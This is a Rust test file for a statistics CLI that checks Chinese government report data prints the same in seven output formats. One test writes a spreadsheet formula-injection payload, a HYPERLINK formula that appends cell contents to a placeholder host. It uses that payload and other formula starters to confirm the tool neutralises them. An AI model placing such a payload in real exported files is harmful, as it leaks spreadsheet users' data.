//! Every format of every command that reads: the same answer in each of them.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;

use calamine::{Data, Reader, Xlsx};
use clap::CommandFactory;
use scraper::{Html, Selector};

use crate::support::{Stats, said};

const FORMATS: [&str; 7] = ["table", "csv", "json", "jsonl", "md", "html", "xlsx"];

/// Every command that prints an answer, and how it is asked on the sample.
const COMMANDS: &[(&str, &str)] = &[
    ("brief", "brief --year 2022 --department 示例县教育局"),
    ("check", "check"),
    ("check", "check --explain"),
    ("compare", "compare --year 2023"),
    ("compare", "compare --year 2021 --section 2"),
    ("department list", "department list"),
    ("distribution", "distribution --metric received.total --year 2023"),
    ("distribution", "distribution --metric fees.amount --year 2022"),
    ("info", "info"),
    ("list", "list"),
    ("missing", "missing --year 2023"),
    ("missing", "missing --year 2020"),
    ("query", "query"),
    ("query", "query years"),
    ("rank", "rank --metric received.total --year 2023"),
    ("rank", "rank --metric denial_rate --year 2023"),
    ("read", "read a.csv"),
    ("rollup", "rollup --year 2022"),
    ("rollup", "rollup --year 2022 --region 示例县 --against 示例县教育局"),
    ("show", "show 示例县教育局 --year 2022"),
    ("show", "show 示例县教育局 --year 2022 --where received.total --where fees.amount"),
    (
        "sql",
        "sql SELECT/**/metric,value/3.0,-value/**/FROM/**/cell/**/ORDER/**/BY/**/2/**/LIMIT/**/80",
    ),
    ("trend", "trend --metric received.total"),
    ("trend", "trend --metric denial_rate --department 示例县教育局"),
];

/// A folder with the sample and one document.
fn sample() -> Stats {
    let stats = Stats::new();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    std::fs::copy(root.join("sample.db"), stats.path("stats.db")).expect("the sample");
    stats.write("a.csv", stats.stdout("export --year 2022 --department 示例县教育局"));
    stats
}

fn bytes(stats: &Stats, arguments: &str) -> Vec<u8> {
    let output = stats.output(arguments);
    // Findings are an answer, too.
    assert!(output.status.code().is_some_and(|code| code < 2), "{arguments}: {}", said(&output));
    output.stdout
}

fn text(stats: &Stats, arguments: &str) -> String {
    String::from_utf8(bytes(stats, arguments)).expect("UTF-8")
}

/// The tables of a page of HTML: captions, headings and rows.
fn tables(page: &str) -> Vec<Vec<Vec<String>>> {
    let page = Html::parse_document(page);
    let select = |selector| Selector::parse(selector).expect("a selector");
    let (table, row, cell) = (select("table"), select("tr"), select("th, td"));
    let text = |one: scraper::ElementRef<'_>| one.text().collect::<Vec<_>>().join("\n");
    let cells = |one: scraper::ElementRef<'_>| one.select(&cell).map(text).collect();
    let rows = |one: scraper::ElementRef<'_>| one.select(&row).map(cells).collect();
    page.select(&table).map(rows).collect()
}

fn sheets(workbook: Vec<u8>) -> Vec<(String, Vec<Vec<Data>>)> {
    let mut workbook = Xlsx::new(std::io::Cursor::new(workbook)).expect("a workbook");
    let names = workbook.sheet_names();
    for name in &names {
        let formulas = workbook.worksheet_formula(name).expect("a sheet");
        assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()), "no formula");
    }
    let sheet = |name: String| {
        let range = workbook.worksheet_range(&name).expect("a sheet");
        let (rows, columns) = range.end().map_or((0, 0), |(row, column)| (row + 1, column + 1));
        let cell = |row, column| range.get_value((row, column)).cloned().unwrap_or_default();
        let row = |row| (0..columns).map(|column| cell(row, column)).collect();
        (name, (0..rows).map(row).collect())
    };
    names.into_iter().map(sheet).collect()
}

/// A cell of a workbook says what the page says in the same place.
fn assert_same(cell: &Data, shown: &str, where_: &str) {
    match cell {
        Data::Empty => assert!(["", "-"].contains(&shown), "{where_}: {shown} and nothing"),
        Data::String(text) => assert_eq!(text, shown, "{where_}"),
        Data::Float(number) => {
            let shown: f64 = shown.trim_end_matches('!').parse().expect(where_);
            assert!(
                (number - shown).abs() < 1e-9 * shown.abs().max(1.0),
                "{where_}: {number}, {shown}"
            );
        }
        other => panic!("{where_}: {other:?}"),
    }
}

#[test]
fn every_command_that_prints_is_tried() {
    fn printing(command: &clap::Command, path: &str, found: &mut Vec<String>) {
        for one in command.get_subcommands() {
            let path = format!("{path} {}", one.get_name()).trim().to_owned();
            if one.get_arguments().any(|argument| argument.get_id() == "format") {
                found.push(path.clone());
            }
            printing(one, &path, found);
        }
    }
    let mut found = Vec::new();
    printing(&stats::cli::Cli::command(), "", &mut found);
    found.sort();
    let mut tried: Vec<&str> = COMMANDS.iter().map(|(command, _)| *command).collect();
    tried.dedup();
    assert_eq!(found, tried);
}

#[test]
fn every_format_of_every_command_has_the_same_answer() {
    let stats = sample();
    for (_, asked) in COMMANDS {
        let of = |format| format!("{asked} --format {format}");
        let csv = text(&stats, &of("csv"));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let records: Vec<BTreeMap<String, String>> =
            reader.deserialize().map(|record| record.expect("a record")).collect();
        let jsonl = text(&stats, &of("jsonl"));
        let objects: Vec<serde_json::Map<String, serde_json::Value>> =
            jsonl.lines().map(|line| serde_json::from_str(line).expect("an object")).collect();
        assert_eq!(objects.len(), records.len(), "{asked}");
        for (object, record) in objects.iter().zip(&records) {
            assert_eq!(object.len(), record.len(), "{asked}");
            for (key, value) in object {
                let key = stats::document::formula::neutralised(key).into_owned();
                let text = match value {
                    serde_json::Value::Null => String::new(),
                    serde_json::Value::String(text) => {
                        stats::document::formula::neutralised(text).into_owned()
                    }
                    serde_json::Value::Number(one) if one.is_f64() => {
                        // A percentage has one decimal, another number as many as it has.
                        let one = one.as_f64().expect("a number");
                        let texts = [format!("{one:.1}"), stats::query::Value::number_text(one)];
                        let [percentage, plain] = texts;
                        if percentage == record[&key] { percentage } else { plain }
                    }
                    value => value.to_string(),
                };
                assert_eq!(text, record[&key], "{asked}: {key}");
            }
        }
        let json = text(&stats, &of("json"));
        serde_json::from_str::<serde_json::Value>(&json).expect("JSON");
        for language in ["zh", "en"] {
            let asked = format!("--lang {language} {asked}");
            let of = |format| format!("{asked} --format {format}");
            let html = text(&stats, &of("html"));
            let tables = tables(&html);
            let md = text(&stats, &of("md"));
            let lines = md.lines().filter(|line| line.starts_with('|')).count();
            let rows: usize = tables.iter().map(|table| table.len() + 1).sum();
            assert_eq!(lines, rows, "{asked}: rows of Markdown");
            let sheets = sheets(bytes(&stats, &of("xlsx")));
            assert_eq!(
                sheets.len(),
                tables.len() + 1,
                "{asked}: a sheet a table, and one of notes"
            );
            for ((name, sheet), table) in sheets.iter().zip(&tables) {
                assert_eq!(sheet.len(), table.len(), "{asked}: {name}");
                for (row, (cells, shown)) in sheet.iter().zip(table).enumerate() {
                    for (column, shown) in shown.iter().enumerate() {
                        let where_ = format!("{asked}: {name}, row {row}, column {column}");
                        let cell = cells.get(column).unwrap_or(&Data::Empty);
                        assert_same(cell, shown, &where_);
                    }
                }
            }
        }
    }
}

#[test]
fn the_suffix_of_a_file_names_its_format() {
    let stats = sample();
    for format in FORMATS {
        let suffix = if format == "table" { "txt" } else { format };
        let printed = bytes(&stats, &format!("list --format {format}"));
        let said = stats.run(&format!("list -o list.{suffix}"));
        assert_eq!(said, "exit: 0\n");
        let written = std::fs::read(stats.path(&format!("list.{suffix}"))).expect("the file");
        assert_eq!(written, printed, "{format}");
    }
    let said = stats.run("list -o list.docx");
    assert!(said.contains("known are .txt, .csv, .json"), "{said}");
}

#[test]
fn numbers_of_a_workbook_are_those_of_json() {
    let stats = sample();
    let json = stats.json("compare --year 2023 --all --format json");
    let sheets = sheets(bytes(&stats, "compare --year 2023 --all --format xlsx"));
    let (name, totals) = &sheets[0];
    assert_eq!(name, "totals");
    // A total that one department dominates is followed by the same without it.
    let expected = json["totals"].as_array().expect("totals").iter().flat_map(|total| {
        let without = Some(&total["without"]).filter(|it| it.is_object());
        [Some(total), without].into_iter().flatten().map(move |it| (it, total["unit"] == "fen"))
    });
    let expected: Vec<(&serde_json::Value, bool)> = expected.collect();
    assert_eq!(totals.len() - 1, expected.len());
    let mut amounts = 0;
    for (row, (expected, is_amount)) in totals[1..].iter().zip(expected) {
        amounts += usize::from(is_amount);
        for (column, key) in [(1, "base"), (2, "value"), (3, "change"), (4, "change_percent")] {
            let scale = if is_amount && column < 4 { 1_000_000.0 } else { 1.0 };
            match (&row[column], expected[key].as_f64()) {
                (Data::Empty, None) => {}
                (Data::Float(found), Some(expected)) => {
                    let found = found * scale;
                    // Percentages are shown with one decimal, amounts to the last fen.
                    assert!((found - expected).abs() < 0.06, "{key}: {found}, {expected}");
                    assert!(!is_amount || column == 4 || (found - expected).abs() < 1e-3);
                }
                (found, expected) => panic!("{key}: {found:?}, {expected:?}"),
            }
        }
    }
    assert!(amounts > 0, "amounts are among them");
}

#[test]
fn the_same_answer_is_the_same_workbook() {
    let stats = sample();
    let first = bytes(&stats, "compare --year 2023 --format xlsx");
    std::thread::sleep(std::time::Duration::from_millis(2_100)); // The time in a zip has two seconds.
    assert_eq!(first, bytes(&stats, "compare --year 2023 --format xlsx"));
}

#[test]
fn csv_for_excel_has_its_marks_and_is_imported_again() {
    let stats = sample();
    for command in ["export --excel", "list --excel", "compare --year 2023 --excel"] {
        let csv = text(&stats, command);
        let without = csv.strip_prefix('\u{feff}').expect("a byte order mark");
        let plain = command
            .replace("--excel", if command.starts_with("export") { "" } else { "--format csv" });
        assert_eq!(without.replace("\r\n", "\n"), text(&stats, &plain), "{command}");
        assert!(without.ends_with("\r\n"), "{command}");
    }
    assert_eq!(stats.run("export --excel -o all.csv"), "exit: 0\n");
    assert_eq!(stats.code("--db again.db import all.csv"), 0);
    assert_eq!(stats.cells("again.db"), stats.cells("stats.db"));
    insta::assert_snapshot!(stats.run("list --excel --format json"));
}

#[test]
fn text_that_would_start_a_formula_is_text_and_comes_back() {
    let stats = Stats::new();
    let title = "=HYPERLINK(\"http://x.example/?\"&A1,\"年报\")";
    let texts = ["=1+1", "＝1+1", "+1-1", "＋1", "-1+2", "－1", "@SUM(A1)", "＠a", "'=1", "''-1"];
    let head = "department,year,form,region,title,section_1_overview,section_5_problems,received.total,licensing.items_change";
    let mut wide = format!("{head}\n");
    for (number, text) in texts.iter().enumerate() {
        let quoted = format!("\"{}\"", title.replace('"', "\"\""));
        // As a clerk's own file has them: an apostrophe of the text itself stands behind another.
        let text = stats::document::formula::neutralised(text);
        let _ =
            writeln!(wide, "=示例{number}局,2020,2019,{text},{quoted},{text},{text}x,{number},-18");
    }
    stats.write("a.csv", wide);
    assert_eq!(stats.code("import a.csv"), 0, "{}", stats.run("import a.csv"));
    let stored = |database: &str| {
        let connection = rusqlite::Connection::open(stats.path(database)).expect("a database");
        crate::support::rows(
            &connection,
            "SELECT name, region, title, section_1_overview.text, section_5_problems.text
            FROM report
            INNER JOIN department USING (department_id)
            INNER JOIN section_1_overview USING (report_id)
            INNER JOIN section_5_problems USING (report_id)
            ORDER BY name",
        )
    };
    let regions: Vec<String> = stored("stats.db")
        .iter()
        .map(|row| match &row[1] {
            rusqlite::types::Value::Text(text) => text.clone(),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(regions, texts);
    for arguments in ["export", "export --excel"] {
        let csv = text(&stats, arguments);
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            for field in &record.expect("a record") {
                let is_formula = field.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                assert!(!is_formula || field.parse::<i64>().is_ok(), "{field}");
            }
        }
        assert!(csv.contains(",-18,"), "numbers stay numbers");
        stats.write("b.csv", csv);
        let _ = std::fs::remove_file(stats.path("b.db"));
        assert_eq!(stats.code("--db b.db import b.csv"), 0);
        assert_eq!(stored("b.db"), stored("stats.db"));
        assert_eq!(stats.cells("b.db"), stats.cells("stats.db"));
    }
    // A list of departments goes out and in.
    stats.write(
        "departments.csv",
        text(&stats, "department list --format csv").replace(",reports", ",备注"),
    );
    // In a workbook they are text, not formulas, and stand as they are.
    let sheets = sheets(bytes(&stats, "department list --format xlsx"));
    let found: Vec<&Data> = sheets[0].1[1..].iter().map(|row| &row[2]).collect();
    let expected: Vec<Data> = texts.iter().map(|text| Data::String((*text).to_owned())).collect();
    assert_eq!(found, expected.iter().collect::<Vec<_>>());
}

#[test]
fn a_file_is_written_as_a_whole_or_not_at_all() {
    let stats = sample();
    insta::assert_snapshot!(stats.run("list -o nowhere/list.csv"));
    stats.write("list.csv", "what was there");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("list.csv", stats.path("link.csv")).expect("a link");
        assert_eq!(stats.code("list -o link.csv"), 0);
        assert!(stats.path("link.csv").is_symlink(), "a link stays one");
        let written = std::fs::read_to_string(stats.path("list.csv")).expect("the file");
        assert_eq!(written, text(&stats, "list --format csv"));
        let said = stats.run("list --format csv -o /dev/full");
        assert!(said.starts_with("exit: 2") && said.contains("cannot be written"), "{said}");
        let said = stats.run("export -o /dev/full");
        assert!(said.starts_with("exit: 2") && said.contains("cannot be written"), "{said}");
    }
    let left = |entry: &std::fs::DirEntry| entry.file_name().to_string_lossy().ends_with(".part");
    let folder = std::fs::read_dir(stats.path("")).expect("the folder");
    assert!(!folder.map(|entry| entry.expect("an entry")).any(|entry| left(&entry)));
}

/// A page as a user sees it, in every format for people.
#[test]
fn pages_for_people() {
    let stats = Stats::new();
    stats.write(
        "a.csv",
        "department,year,form,received.natural_person,received.total,fees.amount\n\
        <示例>县|甲局,2022,2021,12,13,1500000\n\
        <示例>县|甲局,2023,2021,20,20,3000001\n\
        示例县乙局,2022,2021,,4,\n",
    );
    assert_eq!(stats.code("import a.csv"), 0, "{}", stats.run("import a.csv"));
    let asked =
        "compare --year 2023 --metric received.total --metric fees.amount --metric denial_rate";
    let shown = ["md", "html"].map(|format| {
        ["zh", "en"]
            .map(|language| text(&stats, &format!("--lang {language} {asked} --format {format}")))
    });
    insta::assert_snapshot!("page_md", shown[0].join("\n---\n"));
    insta::assert_snapshot!("page_html", shown[1][0]);
}

#[test]
fn findings_are_in_the_unit_of_what_they_count() {
    let stats = Stats::new();
    // A blank amount is one cell, and no amount.
    let head =
        "department,year,form,procurement.items,procurement.amount,fees.amount,section_1_overview";
    stats.write("a.csv", format!("{head}\n甲局,2020,2019,3,,,\n"));
    let text = "2022年，行政事业性收费2万元。";
    stats.write("b.csv", format!("{head}\n甲局,2022,2021,,,15000000,{text}\n"));
    assert_eq!(stats.code("import a.csv b.csv"), 0, "{}", stats.run("import a.csv b.csv"));
    let found = |rule: &str| {
        let page = text_of_findings(&stats, rule);
        let columns = ["metric", "expected", "found"];
        columns.map(|column| {
            let index = page[0].iter().position(|heading| heading == column).expect(column);
            page[1][index].clone()
        })
    };
    let [metric, expected, one] = found("blank-cells");
    assert!(metric.contains("procurement") && !metric.contains("yuan"), "{metric}");
    assert_eq!([expected.as_str(), one.as_str()], ["-", "1"]);
    let [metric, expected, fees] = found("text-fees");
    assert!(metric.ends_with("(10,000 yuan)"), "{metric}");
    assert_eq!([expected.as_str(), fees.as_str()], ["2", "15"]);
}

fn text_of_findings(stats: &Stats, rule: &str) -> Vec<Vec<String>> {
    let page = text(stats, &format!("check --rule {rule} --format html"));
    tables(&page).swap_remove(0)
}

#[test]
fn a_sheet_has_a_fixed_heading_filters_and_widths_that_fit_chinese() {
    use unicode_width::UnicodeWidthStr;
    let stats = sample();
    let workbook = bytes(&stats, "--lang zh compare --year 2023 --format xlsx");
    let sheet = &sheets(workbook.clone())[1].1;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).expect("a zip");
    let xml = archive.by_name("xl/worksheets/sheet2.xml").expect("the sheet");
    let xml = std::io::read_to_string(xml).expect("UTF-8");
    assert!(xml.contains("state=\"frozen\"") && xml.contains("<autoFilter ref=\"A1:"), "{xml}");
    let widths: Vec<f64> = xml
        .split("<col ")
        .skip(1)
        .map(|column| column.split("width=\"").nth(1).expect("a width"))
        .map(|rest| rest.split('"').next().expect("a number").parse().expect("a number"))
        .collect();
    for row in sheet {
        for (cell, width) in row.iter().zip(&widths) {
            let columns = u32::try_from(cell.to_string().width().min(60)).expect("a width");
            assert!(f64::from(columns) < *width, "{cell}: {width}");
        }
    }
    assert!(widths.iter().all(|width| *width < 70.0), "{widths:?}");
}

#[test]
fn no_text_of_a_sheet_is_higher_than_its_row_and_prints_say_what_they_are() {
    use unicode_width::UnicodeWidthStr;
    let stats = sample();
    let mut wrapped = 0;
    for command in ["check", "compare --year 2021 --texts", "brief --year 2023"] {
        let workbook = bytes(&stats, &format!("--lang zh {command} --format xlsx"));
        let sheets = sheets(workbook.clone());
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).expect("a zip");
        for (number, (name, rows)) in sheets.iter().enumerate() {
            let path = format!("xl/worksheets/sheet{}.xml", number + 1);
            let xml = archive.by_name(&path).expect("the sheet");
            let xml = std::io::read_to_string(xml).expect("UTF-8");
            assert!(xml.contains("<oddHeader>&amp;L") && xml.contains("&amp;P / &amp;N"), "{xml}");
            let attribute = |element: &str, key: &str| -> Option<f64> {
                let value = element.split('>').next()?.split(&format!(" {key}=\"")).nth(1)?;
                value.split('"').next()?.parse().ok()
            };
            // Neighbours of the same width are one element.
            let widths: Vec<f64> = xml
                .split("<col ")
                .skip(1)
                .flat_map(|one| {
                    let one = format!(" {one}");
                    let [min, max, width] = ["min", "max", "width"].map(|key| attribute(&one, key));
                    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
                    let columns = (max.expect("a column") - min.expect("a column")) as usize + 1;
                    vec![width.expect("a width"); columns]
                })
                .collect();
            assert_eq!(widths.len(), rows[0].len());
            for row in xml.split("<row ").skip(1) {
                let row = format!(" {row}");
                let at = attribute(&row, "r").expect("a number");
                let height = attribute(&row, "ht").unwrap_or(15.0);
                #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
                let cells = &rows[at as usize - 1];
                for (cell, width) in cells.iter().zip(&widths) {
                    let columns = u32::try_from(cell.to_string().width()).expect("a width");
                    let lines = (f64::from(columns) / width).ceil().max(1.0);
                    assert!(lines * 15.0 <= height, "{name}: {cell}: {height}");
                    wrapped += u32::from(lines > 1.0);
                }
            }
        }
    }
    assert!(wrapped > 10, "{wrapped}");
}
